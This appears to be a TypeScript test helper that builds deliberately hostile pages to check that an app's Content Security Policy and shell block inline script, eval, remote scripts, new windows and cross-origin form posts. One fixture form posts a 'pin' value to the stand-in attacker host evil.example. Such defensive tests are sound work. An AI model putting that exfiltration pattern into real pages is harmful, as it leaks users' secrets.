import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startWebHost, type WebHost } from '../../src-main/web-host';

export { launchChromium } from '../helpers/browser';

/**
 * A tiny page set that tries, from inside the desk's origin, everything the CSP and the shell must stop:
 * inline script, eval, remote script, window.open, target=_blank, foreign frames, form posts elsewhere.
 * Results are written to window.__attempts by the (allowed) same-origin script.
 */
export function attackPages(): string {
  const dir = mkdtempSync(join(tmpdir(), 'jiesu-shell-pages-'));
  writeFileSync(
    join(dir, 'index.html'),
    `<!doctype html><html><head><meta charset="utf-8"><title>attack</title></head><body>
<script>window.__inline = 'ran';</script>
<script src="https://cdn.example.invalid/remote.js"></script>
<a id="blank" href="https://example.com/" target="_blank">open</a>
<form id="form" action="https://evil.example/collect" method="post"><input name="pin" value="1234"></form>
<script type="module" src="/attack.js"></script>
</body></html>`,
  );
  writeFileSync(
    join(dir, 'attack.js'),
    `const attempts = {};
document.addEventListener('securitypolicyviolation', (e) => { (window.__violations ??= []).push(e.violatedDirective + ' ' + e.blockedURI); });
try { attempts.eval = String(eval('1 + 1')); } catch (e) { attempts.eval = e.name; }
try { attempts.newFunction = String(new Function('return 2')()); } catch (e) { attempts.newFunction = e.name; }
try { const w = window.open('https://example.com/', '_blank'); attempts.windowOpen = w === null ? 'null' : 'window'; } catch (e) { attempts.windowOpen = e.name; }
try { const w = window.open('/index.html', '_blank'); attempts.windowOpenSelf = w === null ? 'null' : 'window'; } catch (e) { attempts.windowOpenSelf = e.name; }
attempts.inline = window.__inline ?? 'blocked';
window.__attempts = attempts;
`,
  );
  writeFileSync(join(dir, 'frame.html'), '<!doctype html><p>same-origin frame</p>');
  return dir;
}

export function startTestHost(rendererDir: string, port?: number): Promise<WebHost> {
  const dataFolder = mkdtempSync(join(tmpdir(), 'jiesu-shell-data-'));
  return startWebHost({ dataFolder, rendererDir, version: '0.1.0-test', ...(port !== undefined ? { port } : {}) });
}
